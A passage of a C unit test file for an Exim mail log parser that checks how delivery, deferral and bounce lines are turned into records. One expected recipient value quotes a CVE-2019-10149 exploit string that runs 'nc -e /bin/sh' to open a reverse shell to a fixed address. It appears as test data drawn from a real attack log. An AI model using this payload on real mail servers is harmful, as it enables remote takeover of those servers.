              "mail server after RCPT TO:<frank@example.net>: 451 4.7.1 "
              "Greylisted, try again later",
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_RCPT_TO,
     .code = 451,
     .enhanced = "4.7.1",
     .host = "mx.example.net",
     .ip = "2001:db8::25",
     .port = 25,
     .rcpt = "frank@example.net",
     .domain = "example.net",
     .qid = QID_C,
     .text = "451 4.7.1 Greylisted, try again later",
     .log_time = "2024-03-01 10:00:00 +0100",
     .ms = T2024},
    {.input = "2024-03-01 09:00:00.123456 " QID_C
              " ** gina@example.net R=dnslookup T=remote_smtp "
              "H=mx.example.net [192.0.2.20] : SMTP error from remote mail "
              "server after EHLO client.example.com: 554 5.7.1 go away\r",
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_HELO,
     .code = 554,
     .enhanced = "5.7.1",
     .host = "mx.example.net",
     .ip = "192.0.2.20",
     .rcpt = "gina@example.net",
     .domain = "example.net",
     .qid = QID_C,
     .text = "554 5.7.1 go away",
     .log_time = "2024-03-01 09:00:00.123456",
     .ms = T2024 + 123},
    {.input = "2024-03-01 09:00:00 " QID_C
              " <= alice@example.com H=client.example.com [198.51.100.7] "
              "P=esmtps S=1234 id=abc@example.com",
     .res = RS_PARSE_SKIP},
    {.input = "2024-03-01 09:00:00 " QID_C " Completed", .res = RS_PARSE_SKIP},
    {.input = "2024-03-01 09:00:00 Start queue run: pid=1234",
     .res = RS_PARSE_SKIP},
    {.input = "2024-03-01 09:00:00 SMTP connection from [198.51.100.7]:51234 "
              "(TCP/IP connection count = 1)",
     .res = RS_PARSE_SKIP},
    {.input = "2024-03-01 09:00:00 H=client.example.com [198.51.100.7] "
              "F=<a@example.com> rejected RCPT <x@example.net>: relay not "
              "permitted",
     .res = RS_PARSE_SKIP},
    {.input = "2024-03-01 09:00:00", .res = RS_PARSE_MALFORMED},
    {.input = "2024-03-01 09:00:00.25", .res = RS_PARSE_MALFORMED},
    /* Not Exim at all, or a delivery line without an address. Another
     * program's syslog line is a valid line of a shared mail log that is
     * not an Exim outcome; a line of neither shape is malformed. */
    {.input = "Mar  1 09:00:00 host postfix/smtp[1]: ABC: to=<a@b>",
     .res = RS_PARSE_SKIP},
    {.input = "Mar  1 09:00:00 host", .res = RS_PARSE_MALFORMED},
    {.input = "", .res = RS_PARSE_MALFORMED},
    {.input = "2024-03-01 09:00:00 " QID_C " ==", .res = RS_PARSE_MALFORMED},
    {.input = "2024-03-01 09:00:00 " QID_C " ** : Unrouteable address",
     .res = RS_PARSE_MALFORMED},
};

/*
 * public.log: every line, from sources other than the corpus (README): an
 * "exim[pid]: " line without the syslog date and host and with the wording
 * of Exim before 4.50 ("SMTP error from remote mailer after"), 2012
 * end-of-data bounces and defers, Exim 4.98 with 23-character ids (11-16:
 * host lines, => with DN=), a cPanel article's lines (17-29: a
 * CVE-2019-10149 "${run{...}}" address, frozen messages, host-level lines
 * without a flag (skipped), a multi-line 550 with literal "\n").
 * fail2ban.log: authenticator failures, rejects, sender verify, "closed by
 * DROP in ACL" with a message id: all negatives.
 * selectors.log 11: "->  a <b>" with two spaces after the flag.
 */
static const row_t public_rows[] = {
    {.file = 'P',
     .line = 1,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_RCPT_TO,
     .code = 550,
     .host = "mx.some-domain.com",
     .ip = "1.1.1.1",
     .rcpt = "xxxxxxxx@some-domain.com",
     .domain = "some-domain.com",
     .qid = "1Gmary-0002iA-00",
     .text = "550 Mailbox unavailable <xxxxxxxxxxx@some-domain.com>",
     .log_time = "2006-11-21 15:01:39",
     .ms = 1164121299000LL},
    {.file = 'P',
     .line = 2,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_END_OF_DATA,
     .code = 554,
     .host = "mta7.am0.yahoodns.net",
     .ip = "67.195.168.230",
     .rcpt = "ksppvvxxdo@yahoo.com",
     .domain = "yahoo.com",
     .qid = "1RwtEk-0002zL-IF",
     .text = "554 delivery error: dd Sorry your message to "
             "ksppvvxxdo@yahoo.com cannot be delivered. This account has been "
             "disabled or discontinued [#102]. - mta1051.mail.ac4.yahoo.com",
     .log_time = "2012-02-13 14:39:45",
     .ms = 1329143985000LL},
    {.file = 'P',
     .line = 3,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_END_OF_DATA,
     .code = 554,
     .host = "mta7.am0.yahoodns.net",
     .ip = "66.94.237.64",
     .rcpt = "thauocarief@yahoo.com",
     .domain = "yahoo.com",
     .qid = "1RwtEg-0002zL-Mh",
     .text = "554 delivery error: dd Sorry your message to "
             "thauocarief@yahoo.com cannot be delivered. This account has been "
             "disabled or discontinued [#102]. - mta1229.mail.mud.yahoo.com",
     .log_time = "2012-02-13 14:39:23",
     .ms = 1329143963000LL},
    {.file = 'P',
     .line = 4,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_UNKNOWN,
     .code = 0,
     .rcpt = "rurqo@asciel.msk.su",
     .domain = "asciel.msk.su",
     .qid = "1Rvi19-000Eqz-OX",
     .text = "Operation timed out",
     .log_time = "2012-02-13 14:42:27",
     .ms = 1329144147000LL},
    {.file = 'P',
     .line = 5,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_SENT,
     .stage = RS_STAGE_UNKNOWN,
     .code = 250,
     .host = "mxs.mail.ru",
     .ip = "94.100.176.20",
     .rcpt = "ldtyzggfqejxo@mail.ru",
     .domain = "mail.ru",
     .qid = "1RwtJY-0009RI-E4",
     .text = "250 OK id=1RwtK9-0004SS-Fm",
     .log_time = "2012-02-13 14:39:57",
     .ms = 1329143997000LL},
    {.file = 'P',
     .line = 6,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_SENT,
     .stage = RS_STAGE_UNKNOWN,
     .code = 0,
     .host = "mail.somehost.com",
     .ip = "84.154.134.45",
     .rcpt = "tpxmuwr@somehost.ru",
     .domain = "somehost.ru",
     .qid = "1RwtdM-0000Ac-9w",
     .log_time = "2012-02-13 14:59:48",
     .ms = 1329145188000LL},
    {.file = 'P',
     .line = 7,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_QUEUE,
     .code = 0,
     .rcpt = "qwryowky@bbpg.ru",
     .domain = "bbpg.ru",
     .qid = "1RwtdC-0000Ac-Dr",
     .text = "domain matches queue_smtp_domains, or -odqs set",
     .log_time = "2012-02-13 14:59:48",
     .ms = 1329145188000LL},
    {.file = 'P', .line = 8, .res = RS_PARSE_SKIP},
    {.file = 'P', .line = 9, .res = RS_PARSE_SKIP},
    {.file = 'P', .line = 10, .res = RS_PARSE_SKIP},
    {.file = 'P', .line = 11, .res = RS_PARSE_SKIP},
    {.file = 'P', .line = 12, .res = RS_PARSE_SKIP},
    {.file = 'P', .line = 13, .res = RS_PARSE_SKIP},
    {.file = 'P', .line = 14, .res = RS_PARSE_SKIP},
    {.file = 'P',
     .line = 15,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_SENT,
     .stage = RS_STAGE_UNKNOWN,
     .code = 250,
     .enhanced = "2.0.0",
     .host = "mx.yandex.ru",
     .ip = "77.88.21.249",
     .rcpt = "xxxxxxx@ya.ru",
     .domain = "ya.ru",
     .qid = "1smkL5-00000000e65-24eQ",
     .text = "250 2.0.0 Ok: queued on "
             "mail-nwsmtp-mxfront-production-main-42.sas.yp-c.yandex.net "
             "1725672891-oYTsOiJLGSw0-m3DSxyvl",
     .log_time = "2024-09-07 01:34:12",
     .ms = 1725672852000LL},
    {.file = 'P', .line = 16, .res = RS_PARSE_SKIP},
    {.file = 'P', .line = 17, .res = RS_PARSE_SKIP},
    {.file = 'P', .line = 18, .res = RS_PARSE_SKIP},
    {.file = 'P',
     .line = 19,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_SENT,
     .stage = RS_STAGE_UNKNOWN,
     .code = 0,
     .rcpt = "irwin@mail.cup.com",
     .domain = "mail.cup.com",
     .qid = "1j9Zdk-00029d-Bi",
     .log_time = "2020-03-04 19:25:08",
     .ms = 1583349908000LL},
    {.file = 'P',
     .line = 20,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_UNKNOWN,
     .code = 0,
     .rcpt = "${run{\\x2fbin\\x2fsh\\t-c\\t\\x22nc\\t-"
             "e\\t\\x2fbin\\x2fsh\\t192.168.10.238\\t9963\\x22}}@localhost",
     .domain = "localhost",
     .qid = "1j9ZoZ-0002Jk-9W",
     .text = "Too many \"Received\" headers - suspected mail loop",
     .log_time = "2020-03-04 19:36:19",
     .ms = 1583350579000LL},
    {.file = 'P', .line = 21, .res = RS_PARSE_SKIP},
    {.file = 'P', .line = 22, .res = RS_PARSE_SKIP},
    {.file = 'P', .line = 23, .res = RS_PARSE_SKIP},
    {.file = 'P', .line = 24, .res = RS_PARSE_SKIP},
    {.file = 'P',
     .line = 25,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_RCPT_TO,
     .code = 451,
     .host = "gylsystems.com",
     .ip = "69.69.69.69",
     .rcpt = "test@badluckbryan.com",
     .domain = "badluckbryan.com",
     .qid = "1XWqqy-00028x-FK",
     .text = "451 Temporary local problem - please try later",
     .log_time = "2014-09-24 12:59:49",
     .ms = 1411563589000LL},
    {.file = 'P', .line = 26, .res = RS_PARSE_SKIP},
    {.file = 'P',
     .line = 27,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_RCPT_TO,
     .code = 550,
     .host = "mail.domain.com",
     .ip = "10.5.40.204",
     .rcpt = "aaron@domain.com",
     .domain = "domain.com",
     .qid = "1XO5PX-0006SC-Qa",
     .text = "550-Verification for <garfield@domain.com>\\n550-The mail server "
             "could not deliver mail to garfield@domain.com. The account or "
             "domain may not exist, they may be blacklisted, or missing the "
             "proper dns entries.\\n550 Sender verify failed",
     .log_time = "2014-08-31 08:43:16",
     .ms = 1409474596000LL},
    {.file = 'P', .line = 28, .res = RS_PARSE_SKIP},
    {.file = 'P', .line = 29, .res = RS_PARSE_SKIP},
    {.file = 'S',
     .line = 11,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_SENT,
     .stage = RS_STAGE_UNKNOWN,
     .code = 250,
     .host = "mail.host.tld",
     .ip = "123.123.123.123",
     .rcpt = "foo@bar.tld",
     .domain = "bar.tld",
     .qid = "1gtTXl-009NOy-Ft",
     .text =
         "250- 4359466 byte chunk, total 4361651\\n250 OK id=1gtTZ9-0003pq-QN",
     .log_time = "2021-05-04 13:37:00 +0100",
     .ms = 1620131820000LL},
    {.file = 'F', .line = 1, .res = RS_PARSE_SKIP},
    {.file = 'F', .line = 2, .res = RS_PARSE_SKIP},
    {.file = 'F', .line = 3, .res = RS_PARSE_SKIP},
    {.file = 'F', .line = 4, .res = RS_PARSE_SKIP},
    {.file = 'F', .line = 5, .res = RS_PARSE_SKIP},
    {.file = 'F', .line = 6, .res = RS_PARSE_SKIP},
    {.file = 'F', .line = 7, .res = RS_PARSE_SKIP},
    {.file = 'F', .line = 8, .res = RS_PARSE_SKIP},
    {.file = 'F', .line = 9, .res = RS_PARSE_SKIP},
    {.file = 'F', .line = 10, .res = RS_PARSE_SKIP},
};

/* Parse one row's line and check every field it names. */
static void check_row(const row_t *r)
{
	parsed_t p;
	const char *line;
	size_t len;

	if (r->input != NULL) {
		line = r->input;
		len = strlen(r->input);
	} else {
		const rs_test_fixture_t *f = r->file == 'L'   ? &legacy
		                             : r->file == 'P' ? &public13
		                             : r->file == 'F' ? &fail2ban
		                             : r->file == 'S' ? &selectors
		                                              : &testsuite;
		assert_true(r->line >= 1 && (size_t)r->line <= f->count);
		line = f->line[r->line - 1];
		len = f->len[r->line - 1];
	}
	parse(&p, line, len);
	if (p.res != r->res) {
		fprintf(stderr, "%c:%d %.60s: result %d, want %d (%s)\n",
		        r->file, r->line, line, (int)p.res, (int)r->res,
		        p.why != NULL ? p.why : "");
		fail();
	}
	if (r->res == RS_PARSE_MALFORMED) {
		assert_non_null(p.why);
	}
	if (r->res != RS_PARSE_EVENT) {
		release(&p);
		return;
	}
	assert_int_equal(p.rec.mta, RS_MTA_EXIM);
	assert_int_equal(p.rec.status, r->status);
	assert_int_equal(p.rec.stage, r->stage);
	assert_int_equal(p.rec.reply_code, r->code);
	rs_test_check_str("enhanced_code", r->line, p.rec.enhanced_code,
	                  r->enhanced);
	rs_test_check_str("remote_host", r->line, p.rec.remote_host, r->host);
	rs_test_check_str("remote_ip", r->line, p.rec.remote_ip, r->ip);
	assert_int_equal(p.rec.remote_port, r->port);
	rs_test_check_str("recipient", r->line, p.rec.recipient, r->rcpt);
	rs_test_check_str("recipient_domain", r->line, p.rec.recipient_domain,
	                  r->domain);
	rs_test_check_str("queue_id", r->line, p.rec.queue_id, r->qid);
	rs_test_check_str("sender", r->line, p.rec.sender, r->sender);
	if (r->text_len > 0) {
		assert_int_equal(p.rec.reply_text.n, r->text_len);
		assert_memory_equal(p.rec.reply_text.p, r->text,
		                    strlen(r->text));
	} else {
		rs_test_check_str("reply_text", r->line, p.rec.reply_text,
		                  r->text);
	}
	if (r->log_time != NULL) {
		rs_test_check_str("log_time", r->line, p.rec.log_time,
		                  r->log_time);
	}
	if (r->ms != 0) {
		assert_int_equal(p.rec.log_time_ms, r->ms);
	}
	if (r->delay != 0) {
		assert_true(p.rec.delays.total == r->delay);
	} else {
		assert_true(p.rec.delays.total == -1);
	}
	release(&p);
}

static void test_real_lines(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(real_rows) / sizeof(real_rows[0]); i++) {
		check_row(&real_rows[i]);
	}
}

static void test_public_lines(void **state)
{
	(void)state;
	assert_int_equal(public13.count, 29);
	assert_int_equal(fail2ban.count, 10);
	for (size_t i = 0; i < sizeof(public_rows) / sizeof(public_rows[0]);
	     i++) {
		check_row(&public_rows[i]);
	}
	/* "exim[pid]: <main log line>" (line 1) is Exim's for auto too. */
	{
		rs_logline_t ll;
		rs_record_t rec;
		const char *why = NULL;

		rs_logline_init(&ll, public13.line[0], public13.len[0]);
		assert_true(rs_exim_format.detect(&ll));
		rs_record_reset(&rec);
		assert_int_equal(rs_format_parse(rs_format_auto(),
		                                 public13.line[0],
		                                 public13.len[0], &rec, &why),
		                 RS_PARSE_EVENT);
		assert_int_equal(rec.mta, RS_MTA_EXIM);
		assert_int_equal(rec.status, RS_STATUS_BOUNCED);
	}
}

static void test_constructed_lines(void **state)
{
	(void)state;
	for (size_t i = 0;
	     i < sizeof(constructed_rows) / sizeof(constructed_rows[0]); i++) {
		check_row(&constructed_rows[i]);
	}
}

/* Results over one fixture: per result, status and stage. */
typedef struct tally {
	size_t res[3];
	size_t status[RS_STATUS__COUNT];
	size_t stage[RS_STAGE__COUNT];
} tally_t;

/* Parse every line of f; check each event against the flag on its line. */
static void tally_fixture(const rs_test_fixture_t *f, tally_t *t)
{
	for (size_t i = 0; i < f->count; i++) {
		const char *line = f->line[i];
		size_t len = f->len[i];
		const char *flag;
		parsed_t p;

		parse(&p, line, len);
		t->res[p.res]++;
		/* The flag follows "<date> <time> <id> ". */
		flag = line;
		for (int spaces = 0; spaces < 3 && flag != NULL; spaces++) {
			flag = memchr(flag, ' ', len - (size_t)(flag - line));
			flag = flag != NULL ? flag + 1 : NULL;
		}
		assert_non_null(flag);
		if (memcmp(flag, "== ", 3) == 0) {
			assert_int_equal(p.res, RS_PARSE_EVENT);
			assert_int_equal(p.rec.status, RS_STATUS_DEFERRED);
		} else if (memcmp(flag, "** ", 3) == 0) {
			assert_int_equal(p.res, RS_PARSE_EVENT);
			assert_true(p.rec.status == RS_STATUS_BOUNCED ||
			            p.rec.status == RS_STATUS_EXPIRED);
		} else {
			assert_int_equal(p.res, RS_PARSE_SKIP);
		}
		if (p.res == RS_PARSE_EVENT) {
			/* The queue id is the token before the flag. */
			const char *id =
			    (const char *)memchr(line + 11, ' ', len - 11) + 1;
			assert_int_equal(p.rec.queue_id.n,
			                 (size_t)(flag - 1 - id));
			assert_memory_equal(p.rec.queue_id.p, id,
			                    p.rec.queue_id.n);
			assert_non_null(p.rec.recipient.p);
			assert_true(p.rec.recipient.n > 0);
			assert_non_null(p.rec.reply_text.p);
			t->status[p.rec.status]++;
			t->stage[p.rec.stage]++;
		}
		release(&p);
	}
}

/*
 * Every "==" and "**" line of the corpus is an event, every other line is
 * skipped. The counts were established with grep over the corpus file
 * (flags, "after <command>" / "in response to <command>", the queue and
 * connect phrases), not with this parser.
 */
static void test_corpus_counts(void **state)
{
	tally_t t;

	(void)state;
	memset(&t, 0, sizeof(t));
	assert_int_equal(testsuite.count, 727);
	assert_int_equal(legacy.count, 4);
	tally_fixture(&testsuite, &t);
	tally_fixture(&legacy, &t);
	assert_int_equal(t.res[RS_PARSE_EVENT], 621); /* 354 "==" + 267 "**" */
	assert_int_equal(t.res[RS_PARSE_SKIP], 110);  /* "<id> H=..." lines */
	assert_int_equal(t.res[RS_PARSE_MALFORMED], 0);
	assert_int_equal(t.status[RS_STATUS_DEFERRED], 354);
	/* "retry timeout exceeded" 70 + "failing for a long time" 2. */
	assert_int_equal(t.status[RS_STATUS_EXPIRED], 72);
	assert_int_equal(t.status[RS_STATUS_BOUNCED], 195);
	assert_int_equal(t.stage[RS_STAGE_CONNECT], 52);
	assert_int_equal(t.stage[RS_STAGE_GREETING], 14);
	assert_int_equal(t.stage[RS_STAGE_HELO], 13);
	assert_int_equal(t.stage[RS_STAGE_STARTTLS], 50);
	assert_int_equal(t.stage[RS_STAGE_AUTH], 6);
	assert_int_equal(t.stage[RS_STAGE_MAIL_FROM], 29);
	assert_int_equal(t.stage[RS_STAGE_RCPT_TO], 105);
	/* 52 "after DATA" less the 3 "PRDR error after DATA" lines... */
	assert_int_equal(t.stage[RS_STAGE_DATA], 49);
	/* ...which join the 44 "end of data" / "data block" lines. */
	assert_int_equal(t.stage[RS_STAGE_END_OF_DATA], 47);
	assert_int_equal(t.stage[RS_STAGE_QUEUE], 162);
	assert_int_equal(t.stage[RS_STAGE_UNKNOWN], 94);
}

/* A reply of 5,000 bytes and a line cut inside the host field. */
static void test_long_and_cut_lines(void **state)
{
	static const char head[] =
	    "2024-03-01 09:00:00 " QID_C " == g@example.net R=r T=t defer "
	    "(-44) H=mx.example.net [192.0.2.1]: SMTP error from remote mail "
	    "server after RCPT TO:<g@example.net>: 450 ";
	size_t hl = sizeof(head) - 1, n = hl + 5000;
	char *line = malloc(n);
	parsed_t p;

	(void)state;
	assert_non_null(line);
	memcpy(line, head, hl);
	memset(line + hl, 'x', 5000);
	parse(&p, line, n);
	assert_int_equal(p.res, RS_PARSE_EVENT);
	assert_int_equal(p.rec.reply_code, 450);
	assert_int_equal(p.rec.stage, RS_STAGE_RCPT_TO);
	assert_int_equal(p.rec.reply_text.n, 5004);
	release(&p);
	/* Every prefix parses without reading past its end. */
	for (size_t cut = 0; cut < hl; cut++) {
		parse(&p, line, cut);
		assert_true(p.res == RS_PARSE_EVENT || p.res == RS_PARSE_SKIP ||
		            p.res == RS_PARSE_MALFORMED);
		release(&p);
	}
	free(line);
}

/*
 * +outgoing_interface: I=[ip]:port is the sending IP (test suite lines
 * 50 and 51; a constructed syslog line with a real address).
 */
static void test_outgoing_interface(void **state)
{
	static const char syslog_line[] =
	    "Feb 14 18:12:49 mx1 exim[63062]: 2025-02-14 18:12:49.175 [63062] "
	    "1tivSh-00000000ALP-0mWt == u@x.example R=dnslookup "
	    "T=remote_smtp defer (-44) H=mx.x.example [192.0.2.25]:25 "
	    "I=[198.51.100.7]:41234: SMTP error from remote mail server after "
	    "RCPT TO:<u@x.example>: 451 4.7.1 Try later";
	parsed_t p;

	(void)state;
	for (int line = 50; line <= 51; line++) {
		parse(&p, testsuite.line[line - 1], testsuite.len[line - 1]);
		assert_int_equal(p.res, RS_PARSE_EVENT);
		rs_test_check_str("sending_ip", line, p.rec.sending_ip,
		                  "127.0.0.1");
		rs_test_check_str("remote_ip", line, p.rec.remote_ip,
		                  "127.0.0.1");
		release(&p);
	}
	parse(&p, syslog_line, sizeof(syslog_line) - 1);
	assert_int_equal(p.res, RS_PARSE_EVENT);
	rs_test_check_str("sending_ip", 0, p.rec.sending_ip, "198.51.100.7");
	rs_test_check_str("remote_ip", 0, p.rec.remote_ip, "192.0.2.25");
	assert_int_equal(p.rec.stage, RS_STAGE_RCPT_TO);
	assert_int_equal(p.rec.reply_code, 451);
	release(&p);
	/* No I=: nothing. */
	parse(&p, testsuite.line[0], testsuite.len[0]);
	assert_null(p.rec.sending_ip.p);
	release(&p);
}

/*
 * exim/syslog.log (Exim through syslog, four prefix styles) and
 * exim/selectors.log (log_selector items): the outcomes of their README,
 * nothing malformed.
 */
static void test_syslog_and_selectors(void **state)
{
	static const struct {
		const char *file;
		size_t lines, deferred, bounced, sent, skipped;
	} want[] = {
	    {"exim/syslog.log", 28, 5, 1, 0, 22},
	    {"exim/selectors.log", 50, 9, 3, 9, 29},
	};

	(void)state;
	for (size_t f = 0; f < sizeof(want) / sizeof(want[0]); f++) {
		rs_test_fixture_t fx;
		size_t n[RS_STATUS__COUNT] = {0}, skipped = 0;

		assert_int_equal(rs_test_fixture_load(want[f].file, &fx), 0);
		assert_int_equal(fx.count, want[f].lines);
		for (size_t i = 0; i < fx.count; i++) {
			parsed_t p;

			parse(&p, fx.line[i], fx.len[i]);
			if (p.res == RS_PARSE_MALFORMED) {
				fail_msg("%s:%zu: %s", want[f].file, i + 1,
				         p.why);
			}
			if (p.res == RS_PARSE_EVENT) {
				n[p.rec.status]++;
			} else {
				skipped++;
			}
			release(&p);
		}
		assert_int_equal(n[RS_STATUS_DEFERRED], want[f].deferred);
		assert_int_equal(n[RS_STATUS_BOUNCED] + n[RS_STATUS_EXPIRED],
		                 want[f].bounced);
		assert_int_equal(n[RS_STATUS_SENT], want[f].sent);
		assert_int_equal(skipped, want[f].skipped);
		rs_test_fixture_free(&fx);
	}
}

static void test_line_matches(void **state)
{
	(void)state;
	assert_int_equal(rs_exim_line_matches("1999-03-02 09:44:33 x", 21), 1);
	assert_int_equal(rs_exim_line_matches("2017-07-30 18:51:05.712 x", 25),
	                 1);
	assert_int_equal(rs_exim_line_matches("1999-03-02 09:44:33", 19), 0);
	assert_int_equal(rs_exim_line_matches("1999-03-02T09:44:33 x", 21), 0);
	assert_int_equal(rs_exim_line_matches("Mar  2 09:44:33 host x", 22), 0);
	assert_int_equal(rs_exim_line_matches("1999-3-02 09:44:33 xx", 21), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_real_lines),
	    cmocka_unit_test(test_public_lines),
	    cmocka_unit_test(test_constructed_lines),
	    cmocka_unit_test(test_corpus_counts),
	    cmocka_unit_test(test_long_and_cut_lines),
	    cmocka_unit_test(test_line_matches),
	    cmocka_unit_test(test_outgoing_interface),
	    cmocka_unit_test(test_syslog_and_selectors),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
